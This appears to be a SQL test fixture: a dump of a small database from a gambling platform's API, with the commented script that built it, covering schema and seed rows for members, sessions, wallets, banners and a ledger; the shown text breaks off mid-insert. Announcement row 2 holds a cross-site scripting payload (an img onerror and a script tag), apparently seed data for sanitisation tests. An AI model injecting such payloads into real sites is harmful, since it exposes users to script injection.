-- A small database of the last SQLite release of the platform API (commit b7eb689, schema_migrations 001 to
-- 016), as SQL text, for src/db/sqlite-import.test.ts, which loads it with node:sqlite (db.exec(text)).
--
-- Made by the script below (each line without its leading "--   "), run in a worktree of b7eb689: the
-- release's own migrate() and seedDatabase() (now = 2026-11-01T00:00:00Z), a little activity through its
-- own functions (sessions, login attempts, a captcha, two favourites in one millisecond, a recent game,
-- approved, rejected and pending deposits, a duplicate deposit id as 012_deposit_reference_claims left it, a
-- reward application with a PNG BLOB); then all members but 1 (demo01), 2 (agent01), 3 and 5 deleted, all
-- but six games, and the rows that referred to them; written in sqlite_master order: tables with their rows,
-- indexes, the two triggers last. Running it again gives the same text but for the password hashes (random
-- salts).
--
--   // Run in a worktree of b7eb689 with the node_modules of a current checkout, from its platform-api/ folder:
--   //   git worktree add --detach /tmp/sqlite-era b7eb689
--   //   for d in . shared platform-api; do ln -s "$PWD/$d/node_modules" "/tmp/sqlite-era/$d/node_modules"; done
--   //   (save this script as /tmp/sqlite-era/platform-api/make-fixture.ts, cd there)
--   //   node make-fixture.ts /tmp/full.db /tmp/small.db sqlite-era.sql   # Node 24
--   //   git worktree remove --force /tmp/sqlite-era
--   import { copyFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
--   import { DatabaseSync } from 'node:sqlite';
--   import { openDatabase, run } from './src/db/database.ts';
--   import { migrate } from './src/db/migrations.ts';
--   import { seedDatabase } from './src/db/seed.ts';
--   import { insertSession } from './src/db/sessions.ts';
--   import { recordAttempt } from './src/db/login-guard.ts';
--   import { addFavourite, recordRecent } from './src/db/games.ts';
--   import { approveDeposit, insertDeposit, rejectDeposit } from './src/db/money.ts';
--   import { insertApplication } from './src/db/promotions.ts';
--
--   const [full, small, out] = process.argv.slice(2);
--   for (const path of [full, small]) for (const s of ['', '-wal', '-shm']) rmSync(path + s, { force: true });
--
--   // 1. The last SQLite release's database: its migrations and seed, then a little activity through its own code.
--   const now = Date.UTC(2026, 10, 1);
--   const db = openDatabase(full);
--   migrate(db, now);
--   seedDatabase(db, now);
--   const t = now + 3_600_000;
--   const day = 86_400_000;
--   const origin = { device: 'Chrome on Android', ip: '203.0.113.7', place: 'Dhaka' };
--   insertSession(db, { tokenHash: 'a'.repeat(64), memberId: 1, at: t, expiresAt: t + day, endsAt: null, origin });
--   const revoked = insertSession(db, {
--     tokenHash: 'b'.repeat(64), memberId: 1, at: t + 1000, expiresAt: t + day, endsAt: null, origin,
--   });
--   run(db, "UPDATE sessions SET revoked_at = ?, revoke_reason = 'logout' WHERE id = ?", t + 5000, revoked);
--   insertSession(db, {
--     tokenHash: 'c'.repeat(64), memberId: 2, at: t, expiresAt: t + day, endsAt: t + 3_600_000, origin: null,
--   });
--   recordAttempt(db, 'demo01', false, '203.0.113.7', t - 2000);
--   recordAttempt(db, 'demo01', true, '203.0.113.7', t - 1000);
--   run(
--     db,
--     `INSERT INTO captchas (id, username, answer, ip, created_at, expires_at)
--      VALUES ('0f3c9a7d2b1e4c5a6f7e8d9c', 'demo01', '4821', '203.0.113.7', ?, ?)`,
--     t - 3000,
--     t + 297_000,
--   );
--   const nodes = (db.prepare('SELECT node_id FROM games ORDER BY rowid LIMIT 3').all() as { node_id: string }[]).map(
--     (row) => row.node_id,
--   );
--   // Two favourites added in the same millisecond: their order is the rowid's (seq in PostgreSQL).
--   addFavourite(db, 1, nodes[1], t);
--   addFavourite(db, 1, nodes[0], t);
--   recordRecent(db, 1, nodes[2], t);
--   // An approved deposit (ledger row, balance), a rejected one (its claim given back), a pending lower-case one.
--   const deposit = { promoId: null, bonusMinor: 0, turnoverMultiplier: 1, at: t };
--   const approved = insertDeposit(db, {
--     ...deposit, memberId: 1, channelId: 2, amountMinor: 250_000, reference: 'NgFixture01',
--     idempotencyKey: 'fixture-1', requestHash: 'h1',
--   });
--   approveDeposit(db, approved, 'BDT', t + 60_000);
--   const declined = insertDeposit(db, {
--     ...deposit, memberId: 1, channelId: 1, amountMinor: 100_000, reference: 'BKDECLINED1',
--     idempotencyKey: 'fixture-2', requestHash: 'h2',
--   });
--   rejectDeposit(db, declined, t + 60_000);
--   insertDeposit(db, {
--     ...deposit, memberId: 2, channelId: 3, promoId: 1, amountMinor: 60_000, bonusMinor: 60_000,
--     turnoverMultiplier: 10, reference: 'rk-pending-7', idempotencyKey: 'fixture-3', requestHash: 'h3',
--   });
--   // A duplicate from before 012_deposit_reference_claims: the id of deposit 1 on its channel, approved, holding no
--   // claim (012 left the oldest holder with it). Written as 012 left it: inserted rejected, then its status set.
--   const legacy = insertDeposit(db, {
--     ...deposit, memberId: 1, channelId: 1, amountMinor: 1_000_000, turnoverMultiplier: 0, reference: 'bk7q2m9x4l',
--     idempotencyKey: null, requestHash: null, status: 'rejected', at: now - 1000,
--   });
--   run(db, "UPDATE deposits SET status = 'approved' WHERE id = ?", legacy);
--   // A reward application with a picture (a BLOB): a 1×1 PNG.
--   const png = Buffer.from(
--     '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cf00000301010018dd8db40000000049454e44ae426082',
--     'hex',
--   );
--   const promotion = (db.prepare('SELECT id FROM promotions ORDER BY id LIMIT 1').get() as { id: number }).id;
--   insertApplication(db, {
--     memberId: 1, promotionId: promotion, remarks: 'fixture', idempotencyKey: 'fixture-4',
--     pictures: [{ mime: 'image/png', data: png }], at: t,
--   });
--   db.exec('PRAGMA wal_checkpoint(TRUNCATE)');
--   db.close();
--
--   // 2. A small subset: members 1 (demo01), 2 (agent01), 3 (subagent01), 5 (player12) and what refers to them, six
--   // games; every foreign key closed.
--   copyFileSync(full, small);
--   const sub = new DatabaseSync(small, { enableForeignKeyConstraints: false });
--   sub.exec('PRAGMA journal_mode = DELETE');
--   sub.exec('DELETE FROM members WHERE id NOT IN (1, 2, 3, 5)');
--   sub.exec(`DELETE FROM games WHERE node_id NOT IN (SELECT node_id FROM favourites UNION SELECT node_id FROM recent_games
--     UNION SELECT node_id FROM demo_spins UNION SELECT node_id FROM game_winners WHERE member_id IN (1, 2, 3, 5))
--     AND rowid > (SELECT MIN(rowid) + 5 FROM games)`);
--   sub.exec('DELETE FROM game_winners WHERE member_id IS NULL OR member_id NOT IN (1, 2, 3, 5)');
--   const tables = (
--     sub.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY rowid").all() as { name: string }[]
--   ).map((row) => row.name);
--   for (let changed = true; changed; ) {
--     changed = false;
--     for (const table of tables) {
--       const keys = sub.prepare(`PRAGMA foreign_key_list("${table}")`).all() as {
--         table: string; from: string; to: string | null;
--       }[];
--       for (const key of keys) {
--         const { changes } = sub
--           .prepare(`DELETE FROM "${table}" WHERE "${key.from}" IS NOT NULL
--             AND "${key.from}" NOT IN (SELECT "${key.to ?? 'rowid'}" FROM "${key.table}")`)
--           .run();
--         if (Number(changes) > 0) changed = true;
--       }
--     }
--   }
--   sub.exec('UPDATE members SET affiliate_link_id = NULL WHERE affiliate_link_id NOT IN (SELECT id FROM affiliate_links)');
--   const problems = sub.prepare('PRAGMA foreign_key_check').all();
--   if (problems.length > 0) throw new Error(`foreign keys: ${JSON.stringify(problems)}`);
--
--   // 3. As SQL text: the tables with their rows (rowid order), then the indexes, then the triggers (so that loading
--   // the text does not fire them and every claim stays as it was).
--   const literal = (value: unknown): string => {
--     if (value === null) return 'NULL';
--     if (typeof value === 'number' || typeof value === 'bigint') return String(value);
--     if (value instanceof Uint8Array) return `X'${Buffer.from(value).toString('hex')}'`;
--     return `'${String(value).replaceAll("'", "''")}'`;
--   };
--   const objects = sub
--     .prepare('SELECT type, name, sql FROM sqlite_master WHERE sql IS NOT NULL ORDER BY rowid')
--     .all() as { type: string; name: string; sql: string }[];
--   const lines: string[] = [];
--   for (const object of objects.filter((o) => o.type === 'table')) {
--     lines.push(`${object.sql};`);
--     const rows = sub.prepare(`SELECT * FROM "${object.name}" ORDER BY rowid`).all() as Record<string, unknown>[];
--     if (rows.length === 0) continue;
--     const columns = Object.keys(rows[0]);
--     lines.push(`INSERT INTO "${object.name}" (${columns.map((c) => `"${c}"`).join(', ')}) VALUES`);
--     lines.push(`${rows.map((row) => `  (${columns.map((c) => literal(row[c])).join(', ')})`).join(',\n')};`);
--   }
--   for (const object of objects.filter((o) => o.type === 'index')) lines.push(`${object.sql};`);
--   for (const object of objects.filter((o) => o.type === 'trigger')) lines.push(`${object.sql};`);
--   sub.close();
--
--   const script = readFileSync(import.meta.filename, 'utf8').trimEnd().split('\n').map((line) => `--   ${line}`.trimEnd());
--   const header = [
--     '-- A small database of the last SQLite release of the platform API (commit b7eb689, schema_migrations 001 to',
--     '-- 016), as SQL text, for src/db/sqlite-import.test.ts, which loads it with node:sqlite (db.exec(text)).',
--     '--',
--     '-- Made by the script below (each line without its leading "--   "), run in a worktree of b7eb689: the',
--     "-- release's own migrate() and seedDatabase() (now = 2026-11-01T00:00:00Z), a little activity through its",
--     '-- own functions (sessions, login attempts, a captcha, two favourites in one millisecond, a recent game,',
--     '-- approved, rejected and pending deposits, a duplicate deposit id as 012_deposit_reference_claims left it, a',
--     '-- reward application with a PNG BLOB); then all members but 1 (demo01), 2 (agent01), 3 and 5 deleted, all',
--     '-- but six games, and the rows that referred to them; written in sqlite_master order: tables with their rows,',
--     '-- indexes, the two triggers last. Running it again gives the same text but for the password hashes (random',
--     '-- salts).',
--     '--',
--     ...script,
--     'PRAGMA foreign_keys = OFF;',
--     'BEGIN;',
--   ];
--   writeFileSync(out, `${[...header, ...lines].join('\n')}\nCOMMIT;\n`);
PRAGMA foreign_keys = OFF;
BEGIN;
CREATE TABLE schema_migrations (id TEXT PRIMARY KEY, applied_at INTEGER NOT NULL);
INSERT INTO "schema_migrations" ("id", "applied_at") VALUES
  ('001_members_sessions_wallets', 1793491200000),
  ('002_login_attempts_captchas_outbox', 1793491200000),
  ('003_content_and_vendors', 1793491200000),
  ('004_contracts_settings_merchant', 1793491200000),
  ('005_accounts', 1793491200000),
  ('006_member_centre_money', 1793491200000),
  ('007_game_lobby', 1793491200000),
  ('008_content', 1793491200000),
  ('009_agency', 1793491200000),
  ('010_protection', 1793491200000),
  ('011_banner_links', 1793491200000),
  ('012_deposit_reference_claims', 1793491200000),
  ('013_captcha_limits_and_purging', 1793491200000),
  ('014_chat_ticket_sessions', 1793491200000),
  ('015_security_changes_and_voided_resets', 1793491200000),
  ('016_content_texts_per_language', 1793491200000);
CREATE TABLE members (
        id INTEGER PRIMARY KEY,
        account TEXT NOT NULL UNIQUE COLLATE NOCASE,
        password_hash TEXT NOT NULL,
        nickname TEXT NOT NULL DEFAULT '',
        type INTEGER NOT NULL DEFAULT 0,
        reg_date INTEGER NOT NULL,
        to_upline INTEGER NOT NULL DEFAULT 0,
        parent_id INTEGER REFERENCES members(id),
        status TEXT NOT NULL DEFAULT 'active' CHECK (status IN ('active', 'disabled')),
        last_login_at INTEGER
      , email TEXT NOT NULL DEFAULT '', mobile TEXT, country_dialing_code TEXT NOT NULL DEFAULT '', birthday TEXT NOT NULL DEFAULT '', payee_name TEXT NOT NULL DEFAULT '', payment_password_hash TEXT, profile TEXT NOT NULL DEFAULT '{}', register_method TEXT NOT NULL DEFAULT '', register_url TEXT NOT NULL DEFAULT '', domain TEXT NOT NULL DEFAULT '', register_ip TEXT NOT NULL DEFAULT '', affiliate_link_id INTEGER, turnover_remaining_minor INTEGER NOT NULL DEFAULT 0, reality_check_minutes INTEGER NOT NULL DEFAULT 60
    CHECK (reality_check_minutes IN (0, 15, 30, 60)), reality_check_test_seconds INTEGER, deposit_limit_answered INTEGER NOT NULL DEFAULT 0);
INSERT INTO "members" ("id", "account", "password_hash", "nickname", "type", "reg_date", "to_upline", "parent_id", "status", "last_login_at", "email", "mobile", "country_dialing_code", "birthday", "payee_name", "payment_password_hash", "profile", "register_method", "register_url", "domain", "register_ip", "affiliate_link_id", "turnover_remaining_minor", "reality_check_minutes", "reality_check_test_seconds", "deposit_limit_answered") VALUES
  (1, 'demo01', 'scrypt$16384$8$1$6QxLqpVexrRTx3JXuRfbfg==$E1KuKLrxHsSSkxLk0urwgDtW9IPThFtj3UcN+Yb5CHg=', '', 0, 1785715200000, 0, NULL, 'active', NULL, 'demo01@example.com', '1712345678', '880', '', 'Demo Player', 'scrypt$16384$8$1$JY7PRvlO2qyjouX5tnGing==$RHn1FmBXH4NBsDg3cctv3yCbKfddDh8/iWyilDYuTdE=', '{}', '', '', '', '', NULL, 250000, 60, NULL, 0),
  (2, 'agent01', 'scrypt$16384$8$1$aHAaE/lpOg6XeYEtWUmmUw==$E4J21eXQ/8EzXXlO+NAGY+SFkF723GYyHxTsa/IffXM=', 'Agent One', 1, 1761955200000, 0, NULL, 'active', NULL, '', '1812345678', '880', '', 'Agent One', 'scrypt$16384$8$1$qz+9raAP6cHsOhdyni7byw==$zMO/L/Py98x0tvTYFpjgJja6VR46mWseT6lpvy7giiA=', '{}', '', '', '', '', NULL, 0, 60, NULL, 0),
  (3, 'subagent01', 'scrypt$16384$8$1$iH41tr3N2Uw+0JcuuvrXcw==$/y4t+vaVsSG7/GHOa92pSgVOD3mY40IyBtzbBD+x96w=', '', 1, 1790899200000, 1, 2, 'active', NULL, '', NULL, '', '', '', 'scrypt$1024$8$1$vqlz5KVN8fT5jqHv/2iubQ==$jfCmb5BuvkRelt97zqgzotzkZXIum/wKzweN4y8ijqI=', '{}', '', '', '', '', NULL, 0, 60, NULL, 0),
  (5, 'player12', 'scrypt$16384$8$1$a2e2ZDagB+6UTP8lV7xPtg==$eGzC+X8zplpZA3IyzQixjGbMKHmmhPj5QngpnKVI6k4=', '', 0, 1790899200000, 1, 2, 'active', NULL, '', NULL, '', '', '', NULL, '{}', '', '', '', '', NULL, 0, 60, NULL, 0);
CREATE TABLE sessions (
        id INTEGER PRIMARY KEY,
        token_hash TEXT NOT NULL UNIQUE,
        member_id INTEGER NOT NULL REFERENCES members(id),
        created_at INTEGER NOT NULL,
        expires_at INTEGER NOT NULL,
        revoked_at INTEGER
      , device TEXT NOT NULL DEFAULT '', ip TEXT, place TEXT, last_seen_at INTEGER, ends_at INTEGER, revoke_reason TEXT);
INSERT INTO "sessions" ("id", "token_hash", "member_id", "created_at", "expires_at", "revoked_at", "device", "ip", "place", "last_seen_at", "ends_at", "revoke_reason") VALUES
  (1, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 1, 1793494800000, 1793581200000, NULL, 'Chrome on Android', '203.0.113.7', 'Dhaka', 1793494800000, NULL, NULL),
  (2, 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb', 1, 1793494801000, 1793581200000, 1793494805000, 'Chrome on Android', '203.0.113.7', 'Dhaka', 1793494801000, NULL, 'logout'),
  (3, 'cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc', 2, 1793494800000, 1793581200000, NULL, '', NULL, NULL, 1793494800000, 1793498400000, NULL);
CREATE TABLE wallets (
        member_id INTEGER NOT NULL REFERENCES members(id),
        currency TEXT NOT NULL,
        balance_minor INTEGER NOT NULL DEFAULT 0,
        PRIMARY KEY (member_id, currency)
      );
INSERT INTO "wallets" ("member_id", "currency", "balance_minor") VALUES
  (1, 'BDT', 1484567),
  (2, 'BDT', 5000000),
  (3, 'BDT', 1580000),
  (5, 'BDT', 100000);
CREATE TABLE login_attempts (
        id INTEGER PRIMARY KEY,
        username TEXT NOT NULL,
        success INTEGER NOT NULL,
        ip TEXT NOT NULL,
        created_at INTEGER NOT NULL
      );
INSERT INTO "login_attempts" ("id", "username", "success", "ip", "created_at") VALUES
  (1, 'demo01', 0, '203.0.113.7', 1793494798000),
  (2, 'demo01', 1, '203.0.113.7', 1793494799000);
CREATE TABLE captchas (
        id TEXT PRIMARY KEY,
        username TEXT,
        answer TEXT NOT NULL,
        created_at INTEGER NOT NULL,
        expires_at INTEGER NOT NULL,
        used_at INTEGER
      , ip TEXT NOT NULL DEFAULT '');
INSERT INTO "captchas" ("id", "username", "answer", "created_at", "expires_at", "used_at", "ip") VALUES
  ('0f3c9a7d2b1e4c5a6f7e8d9c', 'demo01', '4821', 1793494797000, 1793495097000, NULL, '203.0.113.7');
CREATE TABLE outbox (
        id INTEGER PRIMARY KEY,
        channel TEXT NOT NULL CHECK (channel IN ('sms', 'email', 'captcha')),
        recipient TEXT NOT NULL,
        body TEXT NOT NULL,
        created_at INTEGER NOT NULL
      );
CREATE TABLE banners (
        id INTEGER PRIMARY KEY,
        title TEXT NOT NULL,
        group_name TEXT NOT NULL,
        image_url TEXT NOT NULL DEFAULT '',
        url TEXT NOT NULL DEFAULT '',
        sequence INTEGER NOT NULL,
        hue INTEGER NOT NULL DEFAULT 200
      );
INSERT INTO "banners" ("id", "title", "group_name", "image_url", "url", "sequence", "hue") VALUES
  (1, 'Welcome Bonus 100%', 'm_home', '/static/banners/1.svg', '/m/activity', 1, 0),
  (2, 'Daily Cashback 1.2%', 'm_home', '/static/banners/2.svg', '/m/activity', 2, 26),
  (3, 'Invite Friends, Earn More', 'm_home', '/static/banners/3.svg', '/m/inviteFriends', 3, 51),
  (4, 'JILI Slots Festival', 'm_home', '/static/banners/4.svg', '/m/jili-games', 4, 77),
  (5, 'Slots Weekly Jackpot', 'm_rng', '/static/banners/5.svg', '/m/slot-games', 1, 103),
  (6, 'Cricket Mega Odds', 'm_sports', '/static/banners/6.svg', '/m/sport-games', 1, 129),
  (7, 'Poker Tournament', 'm_pvp', '/static/banners/7.svg', '/m/poker-games', 1, 154),
  (8, 'Live Casino Rebate', 'm_live', '/static/banners/8.svg', '/m/live-games', 1, 180),
  (9, 'Fishing Frenzy', 'm_fish', '/static/banners/9.svg', '/m/fishing-games', 1, 206),
  (10, 'Lottery Daily Draw', 'm_lott', '/static/banners/10.svg', '/m/lott', 1, 231),
  (11, 'E-Lottery Fast Draw', 'm_elott', '/static/banners/11.svg', '/m/elott', 1, 257),
  (12, 'Join Now: Bonus on Sign-up', 'm_reg', '/static/banners/12.svg', '', 1, 283),
  (13, 'First Deposit 100% Bonus', 'm_promotion', '/static/banners/13.svg', '/m/activity', 1, 309),
  (14, 'Weekend Reload 50%', 'm_promotion', '/static/banners/14.svg', '/m/activity', 2, 334);
CREATE TABLE announcements (
        id INTEGER PRIMARY KEY,
        title TEXT NOT NULL,
        content TEXT NOT NULL,
        start_date INTEGER NOT NULL,
        url TEXT NOT NULL DEFAULT '',
        type TEXT NOT NULL CHECK (type IN ('PL', 'PU', 'PR', 'H', 'A')),
        group_name TEXT NOT NULL DEFAULT '',
        images TEXT NOT NULL DEFAULT '[]',
        sequence INTEGER NOT NULL DEFAULT 0
      );
INSERT INTO "announcements" ("id", "title", "content", "start_date", "url", "type", "group_name", "images", "sequence") VALUES
  (1, 'Scheduled maintenance', '<p>Scheduled maintenance on <strong>Tuesday 02:00-04:00</strong>. Games will be unavailable.</p>', 1793145600000, '', 'PL', '', '[]', 1),
  (2, 'Welcome to vsbdtf5', '<p>Welcome! Enjoy 600+ games.</p><img src="x" onerror="alert(''xss'')"><script>alert("xss")</script>', 1793232000000, '', 'PL', '', '[]', 2),
  (3, 'Deposit bonus this week', '<h3>Deposit bonus</h3><p>Deposit <em>৳500</em> or more and get <strong>10%</strong> extra.</p>', 1793318400000, '', 'PU', '', '[]', 3),
  (4, 'Hot: JILI Super Ace', '<p>Try the most popular slot of the week.</p>', 1793404800000, '/m/jili-games', 'H', '', '[]', 4);
CREATE TABLE announcement_reads (
        member_id INTEGER NOT NULL REFERENCES members(id),
        announcement_id INTEGER NOT NULL REFERENCES announcements(id),
        read_at INTEGER NOT NULL,
        PRIMARY KEY (member_id, announcement_id)
      );
CREATE TABLE game_categories (
        game_category TEXT PRIMARY KEY,
        sequence INTEGER NOT NULL
      );
INSERT INTO "game_categories" ("game_category", "sequence") VALUES
  ('RNG', 1),
  ('FISH', 2),
  ('LIVE', 3),
  ('PVP', 4),
  ('SPORTS', 5),
  ('LOTT', 6),
  ('ELOTT', 7);
CREATE TABLE vendors (
        id INTEGER PRIMARY KEY,
        vassalage TEXT NOT NULL,
        display_name TEXT NOT NULL,
        account_type_name TEXT NOT NULL,
        game_type TEXT NOT NULL,
        game_category TEXT NOT NULL REFERENCES game_categories(game_category),
        is_hot INTEGER NOT NULL DEFAULT 0,
        classify TEXT NOT NULL DEFAULT '[]',
        sequence INTEGER NOT NULL,
        UNIQUE (vassalage, game_type)
      );
INSERT INTO "vendors" ("id", "vassalage", "display_name", "account_type_name", "game_type", "game_category", "is_hot", "classify", "sequence") VALUES
  (1, 'JL', 'JILI', 'JILI', 'RNG', 'RNG', 1, '[{"key":"SLOT","displayName":"Slots"},{"key":"JP","displayName":"Jackpot"},{"key":"FeatureBuy","displayName":"Feature Buy"}]', 1),
  (2, 'PG', 'PG Soft', 'PG SOFT', 'RNG', 'RNG', 1, '[{"key":"SLOT","displayName":"Slots"},{"key":"JP","displayName":"Jackpot"},{"key":"FeatureBuy","displayName":"Feature Buy"}]', 2),
  (3, 'JDB', 'JDB', 'JDB', 'RNG', 'RNG', 0, '[{"key":"SLOT","displayName":"Slots"},{"key":"JP","displayName":"Jackpot"},{"key":"FeatureBuy","displayName":"Feature Buy"}]', 3),
  (4, 'RTG', 'RTG Slots', 'RTG SLOTS', 'RNG', 'RNG', 0, '[{"key":"SLOT","displayName":"Slots"},{"key":"JP","displayName":"Jackpot"},{"key":"FeatureBuy","displayName":"Feature Buy"}]', 4),
  (5, 'PP', 'Pragmatic Play', 'PRAGMATIC PLAY', 'RNG', 'RNG', 0, '[{"key":"SLOT","displayName":"Slots"},{"key":"JP","displayName":"Jackpot"},{"key":"FeatureBuy","displayName":"Feature Buy"}]', 5),
  (6, 'JL', 'JILI', 'JILI', 'FISH', 'FISH', 1, '[]', 6),
  (7, 'JDB', 'JDB', 'JDB', 'FISH', 'FISH', 0, '[]', 7),
  (8, 'EVO', 'Evolution', 'EVOLUTION', 'LIVE', 'LIVE', 1, '[]', 8),
  (9, 'SEXY', 'Sexy Baccarat', 'SEXY BACCARAT', 'LIVE', 'LIVE', 0, '[]', 9),
  (10, 'KM', 'Kingmaker', 'KINGMAKER', 'PVP', 'PVP', 0, '[]', 10),
  (11, 'SABA', 'SABA Sports', 'SABA SPORTS', 'SPORTS', 'SPORTS', 1, '[]', 11),
  (12, 'TCG_ESP', 'TCG E-Sports', 'TCG E-SPORTS', 'ESPORTS', 'SPORTS', 0, '[]', 12),
  (13, 'SV388', 'SV388 Cockfight', 'SV388 COCKFIGHT', 'COCKFIGHT', 'SPORTS', 0, '[]', 13),
  (14, 'SBO_LOTT', 'SBO Lottery', 'SBO LOTTERY', 'LOTT', 'LOTT', 0, '[]', 14),
  (15, 'VNLOTT', 'Vietnam Lottery', 'VIETNAM LOTTERY', 'ELOTT', 'ELOTT', 0, '[]', 15);
CREATE TABLE system_settings (
        id INTEGER PRIMARY KEY CHECK (id = 1),
        status INTEGER NOT NULL DEFAULT 0 CHECK (status IN (0, 1, 2)),
        ip_restricted INTEGER NOT NULL DEFAULT 0,
        maintenance_message TEXT
      );
INSERT INTO "system_settings" ("id", "status", "ip_restricted", "maintenance_message") VALUES
  (1, 0, 0, NULL);
CREATE TABLE merchant_config (
        merchant_code TEXT PRIMARY KEY,
        currency TEXT NOT NULL,
        currency_symbol TEXT NOT NULL,
        currency_scale INTEGER NOT NULL,
        minimum_age INTEGER NOT NULL,
        flags TEXT NOT NULL DEFAULT '{}',
        links TEXT NOT NULL DEFAULT '{}'
      , country_dialing_code TEXT NOT NULL DEFAULT '880');
INSERT INTO "merchant_config" ("merchant_code", "currency", "currency_symbol", "currency_scale", "minimum_age", "flags", "links", "country_dialing_code") VALUES
  ('vsbdtf5', 'BDT', '৳', 100, 18, '{"DEPOSIT":true,"WITHDRAW":true,"TRANSBETREPMEM3":true,"REWCEN3":true,"FEEDBACK3":true,"SECPRIV":true,"USERNAMEREG3":true,"MOBILENUMREG3":true,"REGMOBVERF3":true,"MOBILENUMPASSREG3":true,"MOBILEVERCODELOGIN3":true,"FACEBOOKLOGIN3":false,"GOOGLELOGIN3":false,"CHNGPASSMAIL3":true,"CHNGPASSVERIF3":true,"DEPRECM3":true,"WITHREC3":true,"TRANSREC3":true,"PERSREP":true,"MAILCEN":true,"MANPLAYREB3":true,"PLYRBT":true,"AGETRANSFERUP3":true,"VIPBENEFIT":true,"MISSION":true,"REFERRAL":true,"CHAT":true,"RGLIMITS":true,"RGREALITY":true,"RGEXCLUDE":true,"SECSESSIONS":true,"SECPAYOUTSMS":true,"RGFOOTER":true}', '{"whatsapp":"https://wa.me/8801700000000","telegram":"https://t.me/vsbdtf5_support","facebook":"https://www.facebook.com/vsbdtf5","customerService":"https://wa.me/8801700000001"}', '880');
CREATE TABLE register_field_config (
        merchant_code TEXT NOT NULL REFERENCES merchant_config(merchant_code),
        field TEXT NOT NULL,
        enabled INTEGER NOT NULL,
        required INTEGER NOT NULL,
        min_length INTEGER NOT NULL,
        max_length INTEGER NOT NULL,
        pattern_id TEXT NOT NULL,
        PRIMARY KEY (merchant_code, field)
      );
INSERT INTO "register_field_config" ("merchant_code", "field", "enabled", "required", "min_length", "max_length", "pattern_id") VALUES
  ('vsbdtf5', 'username', 1, 1, 4, 16, 'USERNAME'),
  ('vsbdtf5', 'password', 1, 1, 6, 20, 'PASSWORD'),
  ('vsbdtf5', 'confirmPassword', 1, 1, 6, 20, 'PASSWORD'),
  ('vsbdtf5', 'paymentPassword', 0, 0, 6, 6, 'PAYMENT_PASSWORD'),
  ('vsbdtf5', 'idNumber', 0, 0, 6, 20, 'ALPHANUMERIC'),
  ('vsbdtf5', 'qqNum', 0, 0, 5, 12, 'NUMERIC'),
  ('vsbdtf5', 'facebook', 0, 0, 3, 50, 'TEXT'),
  ('vsbdtf5', 'wechat', 0, 0, 3, 30, 'TEXT'),
  ('vsbdtf5', 'line', 0, 0, 3, 30, 'TEXT'),
  ('vsbdtf5', 'whatsapp', 0, 0, 8, 15, 'NUMERIC'),
  ('vsbdtf5', 'zalo', 0, 0, 8, 15, 'NUMERIC'),
  ('vsbdtf5', 'email', 1, 0, 6, 50, 'EMAIL'),
  ('vsbdtf5', 'nickname', 1, 0, 2, 20, 'NAME'),
  ('vsbdtf5', 'payeeName', 0, 0, 2, 50, 'NAME'),
  ('vsbdtf5', 'mobileNum', 1, 0, 10, 10, 'MOBILE'),
  ('vsbdtf5', 'recommenderId', 0, 0, 4, 12, 'ALPHANUMERIC'),
  ('vsbdtf5', 'birthday', 1, 0, 10, 10, 'DATE'),
  ('vsbdtf5', 'affiliateCode', 1, 0, 4, 12, 'ALPHANUMERIC'),
  ('vsbdtf5', 'verificationCode', 1, 1, 4, 10, 'SMS_CODE'),
  ('vsbdtf5', 'captcha', 1, 1, 4, 6, 'CAPTCHA');
CREATE TABLE affiliate_links (
        id INTEGER PRIMARY KEY,
        code TEXT NOT NULL UNIQUE COLLATE NOCASE,
        owner_id INTEGER NOT NULL REFERENCES members(id),
        domain TEXT NOT NULL DEFAULT '',
        status TEXT NOT NULL DEFAULT 'active' CHECK (status IN ('active', 'disabled')),
        created_at INTEGER NOT NULL
      , rebate_rates TEXT NOT NULL DEFAULT '{}');
INSERT INTO "affiliate_links" ("id", "code", "owner_id", "domain", "status", "created_at", "rebate_rates") VALUES
  (1, 'AG01LINK', 2, '', 'active', 1790899200000, '{"RNG":5,"LIVE":5,"SPORTS":5,"FISH":5,"PVP":5,"LOTT":5}'),
  (2, 'AG01VIP', 2, '', 'active', 1790899200000, '{"RNG":10,"LIVE":10,"SPORTS":10,"FISH":10,"PVP":10,"LOTT":10}'),
  (3, 'AG01DOM', 2, 'agent01.example.com', 'active', 1790899200000, '{"RNG":8,"LIVE":8,"SPORTS":8,"FISH":8,"PVP":8,"LOTT":8}');
CREATE TABLE password_resets (
        id INTEGER PRIMARY KEY,
        token_hash TEXT NOT NULL UNIQUE,
        member_id INTEGER NOT NULL REFERENCES members(id),
        created_at INTEGER NOT NULL,
        expires_at INTEGER NOT NULL,
        used_at INTEGER
      , voided_at INTEGER);
CREATE TABLE recovery_requests (
        id INTEGER PRIMARY KEY,
        username TEXT NOT NULL,
        ip TEXT NOT NULL,
        success INTEGER NOT NULL,
        created_at INTEGER NOT NULL
      );
CREATE TABLE "ledger" (
    id INTEGER PRIMARY KEY,
    member_id INTEGER NOT NULL REFERENCES members(id),
    currency TEXT NOT NULL,
    amount_minor INTEGER NOT NULL,
    balance_after_minor INTEGER NOT NULL,
    kind TEXT NOT NULL CHECK (kind IN ('deposit', 'deposit_bonus', 'withdraw', 'withdraw_refund', 'bet', 'win', 'reward', 'rebate', 'transfer_in', 'transfer_out', 'adjustment', 'trial_credit')),
    reference TEXT NOT NULL,
    created_at INTEGER NOT NULL
  );
INSERT INTO "ledger" ("id", "member_id", "currency", "amount_minor", "balance_after_minor", "kind", "reference", "created_at") VALUES
  (1, 1, 'BDT', 1000000, 1000000, 'deposit', 'DEP-1', 1788307200000),
  (2, 1, 'BDT', 500000, 1500000, 'deposit', 'DEP-2', 1790899200000),
  (3, 1, 'BDT', -1150000, 350000, 'bet', 'BET-1', 1791331200000),
  (4, 1, 'BDT', 1070000, 1420000, 'win', 'WIN-1', 1791331200000),
  (5, 1, 'BDT', 9200, 1429200, 'rebate', 'REB-1', 1791763200000),
  (6, 1, 'BDT', -300000, 1129200, 'withdraw', 'WD-1', 1792195200000),
  (7, 1, 'BDT', 10000, 1139200, 'reward', 'RWD-1', 1792454400000),
  (8, 1, 'BDT', -40000, 1099200, 'bet', 'BET-2', 1792627200000),
